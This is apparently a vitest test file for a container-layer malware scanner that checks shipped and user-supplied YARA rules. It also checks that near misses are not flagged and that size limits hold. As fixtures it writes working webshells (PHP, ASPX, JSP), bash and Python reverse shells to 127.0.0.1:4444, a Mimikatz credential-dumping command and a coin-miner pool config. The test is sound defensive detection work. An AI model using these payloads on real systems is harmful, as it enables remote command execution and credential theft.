// The shipped YARA rule set and the user's rule directories, run by YARA-X in the layer walk over
// real files this test writes: each threat kind is found, near misses are not, limits hold.
import { createHash } from "node:crypto";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { analyzeLayer } from "../../../shared/analysis/analyze-layer.js";
import type { Analyzer } from "../../../shared/analysis/analyzer.js";
import { contentAnalyzers, readUserYaraRules, YaraEngine } from "../../../shared/analysis/content/index.js";
import { MAX_YARA_TEXT_BYTES, ownBytes } from "../../../shared/analysis/content/yara-engine.js";
import { ANALYZERS, analyzersWithYaraRules, analyzerSetVersion } from "../../../shared/analysis/registry.js";
import { squashLayers } from "../../../shared/analysis/squash.js";
import { type ContentFact, ContentFactSchema } from "../../../shared/model/content.js";
import { DEFAULT_LIMITS } from "../../../shared/model/limits.js";
import { loadPolicyFile } from "../../../shared/policy/load-policy.js";
import { type Entry, layerBlob, streamOf } from "../layers.js";

const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

async function contentOf(entries: Entry[], analyzers: readonly Analyzer[] = contentAnalyzers(undefined)) {
  const blob = await layerBlob(entries);
  const layer = await analyzeLayer(streamOf(blob.bytes), blob.ref, {
    analyzers: [...analyzers],
    limits: DEFAULT_LIMITS,
  });
  const fact: ContentFact = ContentFactSchema.parse(
    squashLayers([layer], { analyzers: [...analyzers] }).facts.content,
  );
  return fact.findings;
}

const byPath = (findings: { path: string; rule: string }[]) =>
  Object.fromEntries(findings.map((f) => [f.path, f.rule]));

describe("the shipped YARA rules", () => {
  it("find each threat kind in real files, with the patterns as evidence", async () => {
    const findings = await contentOf([
      { name: "opt/tools/eicar.com", content: EICAR },
      {
        name: "opt/miner/config.json",
        content: JSON.stringify({
          autosave: true,
          "donate-level": 1,
          randomx: { mode: "auto" },
          pools: [{ url: "stratum+tcp://127.0.0.1:3333", user: "wallet" }],
        }),
      },
      { name: "var/www/html/up.php", content: "<?php\nif (isset($_POST['c'])) { system($_POST['c']); }\n" },
      { name: "var/www/html/x.php", content: "<?php @eval(base64_decode($_REQUEST['z'])); ?>" },
      {
        name: "inetpub/wwwroot/cmd.aspx",
        content: [
          '<%@ Page Language="C#" %>',
          "<script runat=server>",
          'void Page_Load() { var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);',
          "  System.Diagnostics.Process.Start(p); }",
          "</script>",
        ].join("\n"),
      },
      {
        name: "usr/local/tomcat/webapps/ROOT/cmd.jsp",
        content: '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
      },
      { name: "opt/app/entry.sh", content: "#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n" },
      {
        name: "opt/app/tool.py",
        content:
          'import socket,subprocess,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\n',
      },
      {
        name: "opt/app/creds.ps1",
        content: 'Invoke-Mimikatz -Command \'"privilege::debug" "sekurlsa::logonpasswords"\'\n',
      },
    ]);
    expect(byPath(findings)).toEqual({
      "/opt/tools/eicar.com": "malware/eicar-test-file",
      "/opt/miner/config.json": "yara/coin-miner",
      "/var/www/html/up.php": "yara/webshell-php",
      "/var/www/html/x.php": "yara/webshell-php",
      "/inetpub/wwwroot/cmd.aspx": "yara/webshell-aspx",
      "/usr/local/tomcat/webapps/ROOT/cmd.jsp": "yara/webshell-jsp",
      "/opt/app/entry.sh": "yara/reverse-shell",
      "/opt/app/tool.py": "yara/reverse-shell",
      "/opt/app/creds.ps1": "yara/windows-credential-dumping",
    });
    const eicar = findings.find((f) => f.path === "/opt/tools/eicar.com")!;
    // the hand-written EICAR check and the YARA rule agree: one finding, both as evidence, one engine
    expect(eicar.engines).toEqual(["portcullis"]);
    expect(eicar.confidence).toBe("suspected");
    expect(eicar.evidence).toEqual([
      "portcullis rule malware/eicar-test-file",
      "YARA rule malware/eicar-test-file: $eicar at 0x0",
    ]);
    const miner = findings.find((f) => f.path === "/opt/miner/config.json")!;
    expect(miner.category).toBe("malware");
    expect(miner.evidence[0]).toMatch(/^YARA rule yara\/coin-miner: \$stratum at 0x[0-9a-f]+/);
    expect(miner.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it("stays quiet on near misses: quoted EICAR, request input echoed, docs about /dev/tcp, a plain JSP", async () => {
    const findings = await contentOf([
      { name: "opt/tools/test.sh", content: `#!/bin/sh\necho '${EICAR}' > /tmp/eicar.com\n` },
      { name: "var/www/html/form.php", content: "<?php echo htmlspecialchars($_POST['name']); ?>" },
      { name: "var/www/html/run.php", content: "<?php system('uptime'); ?>" },
      {
        name: "opt/app/README.txt",
        content: "bash can open /dev/tcp/HOST/PORT; the stratum protocol is used by mining pools\n",
      },
      {
        name: "usr/local/tomcat/webapps/ROOT/index.jsp",
        content: '<% String name = request.getParameter("name"); out.println(name); %>',
      },
      { name: "etc/app/config.json", content: JSON.stringify({ pools: ["db1", "db2"], donate: false }) },
    ]);
    expect(findings).toEqual([]);
  });

  it("reads only the right kinds of file, within their size limits", async () => {
    const stratum = "pool = stratum+tcp://127.0.0.1:3333\n";
    const findings = await contentOf([
      // an image is no script, executable, web root or configuration file
      { name: "usr/share/pixmaps/logo.png", content: stratum },
      // a configuration file over the text limit is not read by YARA
      {
        name: "etc/big/pool.conf",
        content: Buffer.concat([Buffer.alloc(MAX_YARA_TEXT_BYTES, 0x20), Buffer.from(stratum)]),
      },
      { name: "etc/small/pool.conf", content: stratum },
    ]);
    expect(byPath(findings)).toEqual({ "/etc/small/pool.conf": "yara/coin-miner" });
  });

  it("keeps the evidence bounded on a file that repeats a pattern a hundred thousand times", async () => {
    const hostile = `#!/bin/sh\n${"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n".repeat(100_000)}`;
    const findings = await contentOf([{ name: "opt/app/loop.sh", content: hostile }]);
    expect(findings.map((f) => f.rule)).toEqual(["yara/reverse-shell"]);
    expect(findings[0]!.evidence[0]!.split(", ").length).toBeLessThanOrEqual(8);
  });
});

describe("the user's YARA rules", () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "portcullis-yara-"));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  const CANARY = `rule team_canary {
  meta:
    category = "persistence"
    title = "the team's canary string"
    id = "malware/eicar-test-file"
  strings:
    $a = "PORTCULLIS-CANARY-42"
  condition:
    $a
}
`;

  it("run beside the shipped ones, named yara-user/<rule> (never posing as a shipped id)", async () => {
    const rules = join(dir, "team");
    await rm(rules, { recursive: true, force: true });
    await mkdir(rules);
    await writeFile(join(rules, "canary.yar"), CANARY);
    await writeFile(join(rules, "notes.md"), "not a rule file { broken");
    await writeFile(join(dir, "portcullis.yaml"), "content:\n  yaraRules: [team]\n");
    const { policy } = await loadPolicyFile(join(dir, "portcullis.yaml"));
    expect(policy.content.yaraRules).toEqual([rules]);
    const analyzers = analyzersWithYaraRules(policy.content.yaraRules);
    // user rules swap the content engine only: every other analyzer (os-owned attribution too) stays
    expect(analyzers.map((a) => a.name)).toEqual(ANALYZERS.map((a) => a.name));
    const findings = await contentOf(
      [{ name: "opt/app/run.sh", content: "#!/bin/sh\n# PORTCULLIS-CANARY-42\n" }],
      analyzers.filter((a) => a.name === "content"),
    );
    expect(findings.map((f) => [f.rule, f.category, f.summary])).toEqual([
      ["yara-user/team_canary", "persistence", "/opt/app/run.sh is the team's canary string"],
    ]);
  });

  it("give every file's verdict by the layer's end while the walk reads on, with the SHA-256 of a file only they flag", async () => {
    const analyzers = contentAnalyzers(undefined, { files: [{ path: "team/canary.yar", source: CANARY }] });
    // more files than the worker may have in flight, every tenth with the canary
    const scripts = Array.from({ length: 150 }, (_, i) => ({
      name: `opt/app/s${i}.sh`,
      content: `#!/bin/sh\necho ${i}\n${i % 10 === 0 ? "# PORTCULLIS-CANARY-42\n" : ""}`,
    }));
    // a configuration file no other rule names, past the size every file gets a SHA-256 at
    const config = Buffer.from(`${"key = value\n".repeat(10_000)}PORTCULLIS-CANARY-42\n`);
    const findings = await contentOf([...scripts, { name: "etc/app/big.conf", content: config }], analyzers);
    expect(findings.map((f) => f.path).sort()).toEqual(
      [...scripts.filter((_, i) => i % 10 === 0).map((f) => `/${f.name}`), "/etc/app/big.conf"].sort(),
    );
    expect(findings.every((f) => f.rule === "yara-user/team_canary")).toBe(true);
    const big = findings.find((f) => f.path === "/etc/app/big.conf")!;
    expect(big.sha256).toBe(createHash("sha256").update(config).digest("hex"));
  });

  it("put the rule set's version and the user rules' digest in the layer-cache key", async () => {
    const shipped = analyzerSetVersion(contentAnalyzers(undefined));
    const one = analyzerSetVersion(
      contentAnalyzers(undefined, { files: [{ path: "a.yar", source: CANARY }] }),
    );
    const edited = analyzerSetVersion(
      contentAnalyzers(undefined, { files: [{ path: "a.yar", source: CANARY.replace("42", "43") }] }),
    );
    expect(new Set([shipped, one, edited]).size).toBe(3);
    expect(new YaraEngine().version).toMatch(/^shipped@\d+$/);
  });

  it("refuse a rule that does not compile, a missing directory and an oversized file, naming them", async () => {
    const bad = join(dir, "bad");
    await mkdir(bad, { recursive: true });
    await writeFile(join(bad, "broken.yara"), "rule broken { condition: no_such_identifier }\n");
    expect(() => new YaraEngine(readUserYaraRules([bad]))).toThrow(
      /broken\.yara does not compile: .*no_such_identifier/s,
    );
    expect(() => readUserYaraRules([join(dir, "missing")])).toThrow(/missing cannot be read/);
    const huge = join(dir, "huge");
    await mkdir(huge, { recursive: true });
    await writeFile(join(huge, "huge.yar"), Buffer.alloc(1024 * 1024 + 1, 0x20));
    expect(() => readUserYaraRules([huge])).toThrow(/huge\.yar is 1048577 bytes/);
  });
});

describe("a file handed to the user rules' worker", () => {
  it("moves only its own bytes, not the reused join buffer it is a view of, and does not follow that buffer's reuse", () => {
    const joinBuffer = Buffer.alloc(8 * 1024 * 1024, 0x41);
    const file = joinBuffer.subarray(4096, 4096 + 300);
    file.write("rule-bait", 0);
    const moved = ownBytes(file);
    expect(moved.buffer.byteLength).toBe(300);
    expect(Buffer.from(moved).equals(file)).toBe(true);
    joinBuffer.fill(0x42); // the next file joined into the same buffer
    expect(Buffer.from(moved).subarray(0, 9).toString()).toBe("rule-bait");
  });
});
